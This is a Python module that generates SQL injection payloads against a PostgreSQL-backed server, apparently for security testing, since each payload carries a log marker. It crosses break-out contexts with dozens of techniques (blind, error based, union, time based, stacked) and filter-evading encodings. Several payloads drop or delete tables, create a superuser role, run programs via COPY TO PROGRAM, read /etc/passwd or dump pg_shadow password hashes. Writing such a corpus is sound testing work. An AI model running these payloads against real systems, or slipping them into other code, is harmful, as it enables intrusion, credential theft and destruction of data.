"""Texts that would inject SQL into a server that builds it from values: techniques, each in every context that it could break
out of, in several disguises. Written from how such attacks work, not taken from any list.

Each text holds a mark by which it is found again in a log, and asks for DIGESTS: what no answer can hold unless SQL was run.
"""

import hashlib
import itertools
import urllib.parse

MARK = "zq7mark"
DIGEST = hashlib.md5(MARK.encode()).hexdigest()
# The same as a number, for what answers in numbers.
PRODUCT = str(7717 * 9973)

# What ends the place that the text may stand in, and what makes the rest of the statement fit again.
CONTEXTS = {
    "number": ("1)", " OR (1=1"),
    "single quotes": ("x'", " AND 'a'='a"),
    "single quotes, comment": ("x'", "-- -"),
    "single quotes in brackets": ("x')", " AND ('a'='a"),
    "double quotes": ('x"', ' AND "a"="a'),
    "name": ("nom`", " -- -"),
    "backslash": ("\\'", "-- -"),
    "dollars": ("x$$", " -- $$"),
    "literal of the language": ("' or nom = \"x\"", ""),
}

# Boolean blind, error based, union, time based, stacked, functions and files.
TECHNIQUES = {
    "and true": " AND 1=1 AND 'm'='m'",
    "or true": " OR 'm'='m'",
    "or not": " OR NOT 7717=9973 OR 'm'='x'",
    "subquery": " AND (SELECT 'm' FROM pg_user LIMIT 1)='m'",
    "case": " AND (CASE WHEN (SELECT count(*) FROM pg_roles)>0 THEN 'm' ELSE 'x' END)='m'",
    "substring": " AND ascii(substr((SELECT current_user||'m'),1,1))>64",
    "exists": " AND EXISTS(SELECT 'm' FROM catalog.dataset)",
    "order": ",(CASE WHEN ('m'='m') THEN id ELSE n END)",
    "cast of text": " AND 1=CAST((SELECT md5('m')) AS int)",
    "cast of rows": " AND 7=CAST(CHR(113)||(SELECT string_agg(rolname,',')||'m' FROM pg_roles)||CHR(113) AS numeric)",
    "division": " AND 1/(SELECT 0 FROM pg_user WHERE 'm'='m' LIMIT 1)=1",
    "xml": " AND 'm'=(query_to_xml('select md5(''m'')',true,true,''))::text",
    "union": " UNION SELECT md5('m')",
    "union of columns": " UNION ALL SELECT NULL,md5('m'),7717*9973,NULL",
    "union of tables": " UNION ALL SELECT table_name||'m' FROM information_schema.tables",
    "union of passwords": " UNION SELECT usename||'m',passwd FROM pg_shadow",
    "concatenation": "'||(SELECT md5('m'))||'",
    "sleep": " AND 'm'=(SELECT 'm' FROM pg_sleep(30))",
    "sleep if": " AND (CASE WHEN ('m'='m') THEN (SELECT 1 FROM pg_sleep(30)) ELSE 1 END)=1",
    "heavy": " AND 'm'<(SELECT count(*)::text FROM generate_series(1,1000000000))",
    "sleep of others": " AND SLEEP(30) AND 'm'='m' WAITFOR DELAY '0:0:30' AND BENCHMARK(99999999,MD5('m'))",
    "stacked sleep": "; SELECT pg_sleep(30),'m'",
    "stacked drop": "; DROP TABLE data.injection CASCADE; SELECT 'm'",
    "stacked delete": "; DELETE FROM data.injection; UPDATE catalog.dataset SET manifest='{\"m\":1}'",
    "stacked table": "; CREATE TABLE public.zq7mark AS SELECT 'm'",
    "stacked role": "; CREATE ROLE zq7mark SUPERUSER LOGIN PASSWORD 'm'",
    "stacked function": "; CREATE FUNCTION public.zq7mark() RETURNS text LANGUAGE sql AS 'select ''m'''",
    "stacked setting": "; ALTER SYSTEM SET work_mem='64kB'; SET ROLE postgres; SELECT 'm'",
    "stacked program": "; COPY (SELECT 'm') TO PROGRAM 'touch /tmp/zq7mark'",
    "stacked file": "; COPY (SELECT 'm') TO '/tmp/zq7mark'",
    "stacked block": "; DO $x$ BEGIN PERFORM pg_sleep(30); RAISE EXCEPTION 'm'; END $x$",
    "file": " AND 'm'=pg_read_file('/etc/passwd')",
    "large object": " AND 'm'=lo_import('/etc/passwd')::text",
    "setting": " AND 'm'=set_config('statement_timeout','0',false)",
    "call": "||current_setting('is_superuser')||'m'",
    "placeholder": " AND $1='m' AND ?='m' AND %s='m' AND :m=1 AND @@version='m'",
}


def comments(text):
    return text.replace(" ", "/**/")


def versions(text):
    return text.replace(" ", "/*!50000 */")


def lines(text):
    return text.replace(" ", "\n")


def tabs(text):
    return text.replace(" ", "\t")


def unbreakable(text):
    return text.replace(" ", "\u00a0")


def cases(text):
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def encoded(text):
    return urllib.parse.quote(text, safe="")


def curly(text):
    return text.replace("'", "\u2019").replace('"', "\u201d")


def wide(text):
    return text.replace("'", "\uff07").replace('"', "\uff02").replace(";", "\uff1b")


def primed(text):
    return text.replace("'", "\u02bc").replace('"', "\u02ba")


def doubled(text):
    return text.replace("'", "''").replace('"', '""')


def backslashed(text):
    return text.replace("'", "\\'").replace('"', '\\"')


def unicode_escaped(text):
    return text.replace("'", "\\u0027").replace('"', "\\u0022")


def sql_escaped(text):
    return "U&'\\0027'" + text + " E'\\x27' E'\\047' CHR(39) 0x27 %27 &#39; &apos;"


def ended(text):
    return text[:1] + "\0" + text[1:]


DISGUISES = [str, comments, versions, lines, tabs, unbreakable, cases, encoded, curly, wide, primed, doubled, backslashed,
             unicode_escaped, sql_escaped, ended]

# Bytes that are no UTF-8: quotes that a lenient decoder would see, and one that swallows a backslash. As they go over the wire.
BYTES = [f"%{lead}%27%20OR%20%27{MARK}%27=%27{MARK}".encode()
         for lead in ("bf", "c0%a7", "e0%80%a7", "f0%80%80%a7", "81", "fe", "ed%a0%80")]


def payloads():
    """Every technique in every context, the disguises taking turns."""
    turn = itertools.cycle(DISGUISES)
    found = {}
    for (technique, body), (context, (before, behind)) in itertools.product(TECHNIQUES.items(), CONTEXTS.items()):
        disguise = next(turn)
        text = before + body.replace("'m'", f"'{MARK}'").replace("'m", f"'{MARK}") + behind
        if MARK not in text:
            text += f" -- {MARK}"
        found[f"{technique}, {context}, {disguise.__name__}"] = disguise(text)
    return found
